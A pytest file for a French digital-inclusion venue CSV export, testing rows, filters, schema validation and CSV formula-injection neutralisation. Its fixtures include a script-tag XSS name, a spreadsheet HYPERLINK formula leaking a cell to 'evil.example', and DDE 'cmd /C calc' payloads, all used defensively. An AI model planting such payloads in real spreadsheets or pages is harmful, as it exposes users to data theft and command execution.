"""National "lieux de médiation numérique" export: rows, filters, and frictionless validity."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from sqlalchemy import text

from etl.export_mednum import (
    SUMMARY_MAX,
    UNKNOWN_PIVOT,
    ExportSummary,
    enforce_schema,
    export_rows,
    field_names,
    schema_descriptor,
    validate_csv,
    write_csv,
)

LIMOGES, SAINT_LEONARD, SAINT_DENIS = "87085", "87161", "93066"
TRICKY_NAME = 'Café <script>alert("x")</script> | "Le Lieu", Limoges'
LONG_SUMMARY = "Ateliers numériques pour tous. " * 12  # > 280 characters

INSERT_OFFER = text(
    """
    INSERT INTO offre (nom, pivot, typologie, adresse, code_postal, commune_nom, code_insee,
        point, telephones, courriels, sites_web, horaires, services, publics,
        prise_en_charge, frais, modalites_acces, modalites_accompagnement, programmes,
        itinerance, acceslibre_url, prise_rdv_url, presentation_resume,
        presentation_detail, date_maj, statut)
    VALUES (:nom, :pivot, :typologie, :adresse, :code_postal, :commune_nom, :code_insee,
        CASE WHEN CAST(:lon AS float8) IS NULL THEN NULL
             ELSE ST_SetSRID(ST_MakePoint(:lon, :lat), 4326) END,
        :telephones, :courriels, :sites_web, :horaires, :services, :publics,
        :prise_en_charge, :frais, :modalites_acces, :modalites_accompagnement, :programmes,
        :itinerance, :acceslibre_url, :prise_rdv_url, :presentation_resume,
        :presentation_detail, :date_maj, :statut)
    RETURNING id
    """
)

EMPTY_OFFER = {
    "pivot": None,
    "typologie": [],
    "adresse": None,
    "code_postal": None,
    "commune_nom": None,
    "lon": None,
    "lat": None,
    "telephones": [],
    "courriels": [],
    "sites_web": [],
    "horaires": None,
    "services": [],
    "publics": [],
    "prise_en_charge": [],
    "frais": [],
    "modalites_acces": [],
    "modalites_accompagnement": [],
    "programmes": [],
    "itinerance": [],
    "acceslibre_url": None,
    "prise_rdv_url": None,
    "presentation_resume": None,
    "presentation_detail": None,
    "date_maj": None,
    "statut": "active",
}


def _insert(conn, **values) -> int:
    return conn.execute(INSERT_OFFER, {**EMPTY_OFFER, **values}).scalar_one()


@pytest.fixture()
def offers(conn) -> dict[str, int]:
    """A handful of offers: full, minimal, merged, closed, in 93, without an address."""
    ids = {
        "complete": _insert(
            conn,
            nom="Espace numérique de Limoges",
            pivot="434 933 123 00029",
            typologie=["ASSO", "TIERS_LIEUX", "PAS_UN_CODE"],
            adresse="12 rue Jean Jaurès",
            code_postal="87000",
            commune_nom="Limoges",
            code_insee=LIMOGES,
            lon=1.2611,
            lat=45.8336,
            telephones=["pas un numéro", "05 55 12 34 56"],
            courriels=["contact@espace.example", "a|b@example.org"],
            sites_web=["https://espace.example/", "https://facebook.com/espace"],
            horaires="Mo-Fr 09:00-12:00,14:00-18:00; Sa 09:00-12:00",
            services=["loisirs-creations", "demarches-administratives", "slug-inconnu"],
            publics=["Seniors", "Jeunes"],
            prise_en_charge=["Surdité", "Langues étrangères (anglais)"],
            frais=["Gratuit"],
            modalites_acces=["Se présenter", "Téléphoner"],
            modalites_accompagnement=["Accompagnement individuel", "À distance"],
            programmes=["France Services", "Conseillers numériques", "CNFS"],
            itinerance=["Fixe"],
            acceslibre_url="https://acceslibre.beta.gouv.fr/app/erp/espace/",
            prise_rdv_url="https://www.rdv-solidarites.fr/",
            presentation_resume=LONG_SUMMARY,
            presentation_detail="Première ligne.\nSeconde ligne, avec « guillemets ».",
            date_maj="2024-05-02",
        ),
        "minimal": _insert(
            conn,
            nom=TRICKY_NAME,
            pivot="123",  # not a SIRET: the unknown value is written instead
            adresse="Place de la Mairie",
            code_insee=SAINT_LEONARD,  # no commune name nor postcode: taken from `commune`
            horaires="le lundi matin",  # not OSM: left empty
            telephones=["+33 1 23"],  # cannot be normalised: left empty
            itinerance=["Itinérant"],
        ),
        "merged": _insert(
            conn,
            nom="Doublon fusionné",
            adresse="1 rue X",
            code_postal="87000",
            commune_nom="Limoges",
            code_insee=LIMOGES,
            statut="fusionnee",
        ),
        "closed": _insert(
            conn,
            nom="Lieu fermé",
            adresse="2 rue Y",
            code_postal="87000",
            commune_nom="Limoges",
            code_insee=LIMOGES,
            statut="fermee",
        ),
        "other_departement": _insert(
            conn,
            nom="Lieu de Saint-Denis",
            adresse="3 rue Z",
            code_postal="93200",
            commune_nom="Saint-Denis",
            code_insee=SAINT_DENIS,
        ),
        "no_address": _insert(conn, nom="Sans adresse", code_insee=LIMOGES),
    }
    conn.execute(
        text(
            "INSERT INTO enregistrement_source (source, source_id, offre_id, brut, donnees,"
            " empreinte) VALUES ('france-services', 'fs-1', :id, '{}', '{}', 'x')"
        ),
        {"id": ids["complete"]},
    )
    return ids


def _read(path: Path) -> dict[str, dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return {row["id"]: row for row in csv.DictReader(handle)}


def test_export_87_is_valid_and_holds_the_expected_rows(conn, offers, tmp_path):
    path = tmp_path / "lieux-87.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        summary = write_csv(conn, "87", out)
    print(f"\n{summary.line()}")

    report = validate_csv(path)
    errors = report.flatten(["rowNumber", "fieldName", "type", "note"])
    print(f"frictionless: valid={report.valid}, errors={len(errors)}")
    assert report.valid, errors

    with path.open(encoding="utf-8", newline="") as handle:
        assert next(csv.reader(handle)) == field_names()
    rows = _read(path)
    ours = {f"mapdir-{offer_id}": name for name, offer_id in offers.items()}
    exported = {ours[row_id] for row_id in rows if row_id in ours}
    assert exported == {"complete", "minimal", "no_address"}
    assert summary.written == len(rows)
    assert not summary.skipped and not summary.skipped_offers
    assert summary.without_street >= 1 and "sans adresse de voie" in summary.line()
    # no street address: exported with its commune, the address said to be unknown
    bare = rows[f"mapdir-{offers['no_address']}"]
    assert (bare["adresse"], bare["commune"], bare["code_insee"]) == (
        "Limoges",
        "Limoges",
        LIMOGES,
    )
    assert bare["complement_adresse"] == "Adresse précise inconnue"
    assert bare["code_postal"].startswith("870")

    full = rows[f"mapdir-{offers['complete']}"]
    assert full["pivot"] == "43493312300029"
    assert (full["commune"], full["code_postal"], full["code_insee"]) == (
        "Limoges",
        "87000",
        LIMOGES,
    )
    assert float(full["latitude"]) == pytest.approx(45.8336)
    assert float(full["longitude"]) == pytest.approx(1.2611)
    assert full["typologie"] == "ASSO|TIERS_LIEUX"
    assert full["telephone"] == "+33555123456"
    assert full["courriels"] == "contact@espace.example"
    assert full["site_web"] == "https://espace.example/|https://facebook.com/espace"
    assert full["horaires"] == "Mo-Fr 09:00-12:00,14:00-18:00; Sa 09:00-12:00"
    assert full["services"] == (
        "Aide aux démarches administratives|Loisirs et créations numériques"
    )
    assert full["publics_specifiquement_adresses"] == "Jeunes|Seniors"
    assert full["prise_en_charge_specifique"] == "Surdité|Langues étrangères (anglais)"
    assert full["frais_a_charge"] == "Gratuit"
    assert full["dispositif_programmes_nationaux"] == "Conseillers numériques|France Services"
    assert full["modalites_acces"] == "Se présenter|Téléphoner"
    assert full["modalites_accompagnement"] == "Accompagnement individuel|À distance"
    assert full["itinerance"] == "Fixe"
    assert full["date_maj"] == "2024-05-02"
    assert full["source"] == "France Services (ANCT)"
    assert full["fiche_acces_libre"].startswith("https://acceslibre.beta.gouv.fr/")
    assert full["prise_rdv"] == "https://www.rdv-solidarites.fr/"
    resume = full["presentation_resume"]
    assert len(LONG_SUMMARY) > SUMMARY_MAX >= len(resume) > SUMMARY_MAX - 10
    assert resume.endswith("…") and LONG_SUMMARY.startswith(resume[:-1])
    assert full["presentation_detail"] == "Première ligne.\nSeconde ligne, avec « guillemets »."

    minimal = rows[f"mapdir-{offers['minimal']}"]
    assert minimal["nom"] == TRICKY_NAME  # written verbatim, quoted by the CSV writer
    assert minimal["pivot"] == UNKNOWN_PIVOT
    assert minimal["commune"] == "Saint-Léonard-de-Noblat"
    assert minimal["code_postal"] == "87400"
    assert minimal["horaires"] == minimal["telephone"] == ""
    assert minimal["latitude"] == minimal["longitude"] == ""
    assert minimal["itinerance"] == "Itinérant"
    assert minimal["source"] == "mapdir"
    # no date_maj: the offer's last update (the insert, today for the database) is used
    db_today = conn.execute(text("SELECT CAST(now() AS date)")).scalar_one()
    assert minimal["date_maj"] == db_today.isoformat()


def test_without_filter_other_departements_are_exported_but_never_merged_ones(conn, offers):
    ids = {row["id"] for row in export_rows(conn, None)}
    assert f"mapdir-{offers['other_departement']}" in ids
    assert f"mapdir-{offers['complete']}" in ids
    for name in ("merged", "closed"):
        assert f"mapdir-{offers[name]}" not in ids
    assert f"mapdir-{offers['no_address']}" in ids
    only_93 = {row["id"] for row in export_rows(conn, "93")}
    assert f"mapdir-{offers['other_departement']}" in only_93
    assert f"mapdir-{offers['complete']}" not in only_93


def test_validator_reports_a_broken_file_and_accepts_the_la_poste_label(tmp_path):
    names = field_names()
    good = dict.fromkeys(names, "")
    good.update(
        id="x-1",
        pivot=UNKNOWN_PIVOT,
        nom="Lieu",
        commune="Limoges",
        code_postal="87000",
        adresse="1 rue A",
        date_maj="2024-01-01",
        formations_labels="Étapes numériques (La Poste)",
    )
    bad = {**good, "id": "x-2", "code_postal": "8700", "services": "Services inventés"}
    path = tmp_path / "mixed.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        writer = csv.DictWriter(out, fieldnames=names)
        writer.writeheader()
        writer.writerows([good, bad])
    report = validate_csv(path)
    errors = report.flatten(["rowNumber", "fieldName", "type"])
    assert not report.valid
    assert {(row, name) for row, name, _ in errors} == {(3, "code_postal"), (3, "services")}
    # the shared schema itself still carries its defect: only our in-memory copy is patched
    shared = Path(__file__).resolve().parents[2].parent / "shared" / "data" / "schemas"
    raw = (shared / "lieux-mediation-numerique" / "schema.json").read_text(encoding="utf-8")
    assert "Étapes numériques\\\\(La Poste" in raw
    patched = next(f for f in schema_descriptor()["fields"] if f["name"] == "formations_labels")
    assert "Étapes numériques \\(La Poste" in patched["constraints"]["pattern"]


def test_values_breaking_the_schema_are_emptied_and_missing_required_ones_reported():
    row = dict.fromkeys(field_names(), "")
    row.update(
        id="x-1",
        pivot="12",
        nom="Lieu",
        commune="Limoges",
        code_postal="87000",
        adresse="1 rue A",
        date_maj="2024-01-01",
        telephone="0555",
        itinerance="Mobile",
        presentation_resume="x" * (SUMMARY_MAX + 1),
    )
    summary = ExportSummary()
    reason = enforce_schema(row, summary)
    assert (row["telephone"], row["itinerance"], row["presentation_resume"]) == ("", "", "")
    assert set(summary.emptied) == {"pivot", "telephone", "itinerance", "presentation_resume"}
    assert reason == "champ obligatoire manquant : pivot"
    row["pivot"] = UNKNOWN_PIVOT
    assert enforce_schema(row) is None


FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'


def test_formula_cells_are_neutralised_and_the_file_stays_valid(conn, tmp_path):
    """Issue 19, finding 7: names, addresses and summaries starting with = + - @ are written
    as text (a leading '), numbers and the phone stay as they are, the file stays valid."""
    offer_id = _insert(
        conn,
        nom=FORMULA_NAME,
        pivot=None,
        adresse="+1 rue du Piège",
        code_postal="87000",
        commune_nom="Limoges",
        code_insee=LIMOGES,
        lon=-1.25,
        lat=45.83,
        telephones=["+33 5 55 12 34 56"],
        presentation_resume="@SUM(1+1)*cmd|' /C calc'!A0 " + "x" * SUMMARY_MAX,
        presentation_detail="-2+3+cmd|' /C calc'!A0",
    )
    path = tmp_path / "formules.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        write_csv(conn, "87", out)
    report = validate_csv(path)
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    row = _read(path)[f"mapdir-{offer_id}"]
    assert row["nom"] == "'" + FORMULA_NAME
    assert row["adresse"] == "'+1 rue du Piège"
    assert row["presentation_resume"].startswith("'@SUM(1+1)")
    assert len(row["presentation_resume"]) <= SUMMARY_MAX
    assert row["presentation_detail"] == "'-2+3+cmd|' /C calc'!A0"
    assert row["longitude"] == "-1.25" and row["telephone"] == "+33555123456"


def test_what_the_schema_has_no_field_for_goes_to_the_detail(conn, offers):
    conn.execute(
        text(
            "UPDATE offre SET telephones = ARRAY['05 55 00 00 01', 'pas un numéro',"
            " '+33 5 55 00 00 02', '0555000001'], horaires = NULL,"
            " horaires_texte = 'le mardi matin, sauf vacances', prise_rdv = true,"
            " geo_precision = 'commune', presentation_detail = 'Lieu accessible.'"
            " WHERE id = :id"
        ),
        {"id": offers["complete"]},
    )
    rows = {row["id"]: row for row in export_rows(conn, "87")}
    row = rows[f"mapdir-{offers['complete']}"]
    assert row["telephone"] == "+33555000001"
    assert row["horaires"] == ""
    assert row["presentation_detail"].split("\n") == [
        "Lieu accessible.",
        "Autres téléphones : +33555000002.",
        "Horaires : le mardi matin, sauf vacances",
        "Accueil sur rendez-vous.",
        "Position approximative : centre de la commune.",
    ]


def test_cli_lists_what_it_leaves_out_on_stderr(settings, engine, monkeypatch):
    from click.testing import CliRunner

    from mapdir.cli import main as cli

    with engine.begin() as c:
        offer_id = _insert(c, nom="Lieu sans code postal", code_insee=LIMOGES)
        # a commune without postcodes cannot give one: the row misses a required field
        c.execute(
            text("UPDATE offre SET code_postal = NULL, code_insee = NULL WHERE id = :i"),
            {"i": offer_id},
        )
    try:
        url = engine.url.render_as_string(hide_password=False)
        monkeypatch.setenv("DATABASE_URL", url)
        result = CliRunner().invoke(cli, ["export", "mednum"])
        assert result.exit_code == 0, result.stderr
        assert f"offre {offer_id} « Lieu sans code postal » non exportée" in result.stderr
        assert "champ obligatoire manquant" in result.stderr
        assert "lieux exportés" in result.stderr.splitlines()[-1]
        assert f"mapdir-{offer_id}" not in result.stdout
    finally:
        with engine.begin() as c:
            c.execute(text("DELETE FROM offre WHERE id = :i"), {"i": offer_id})
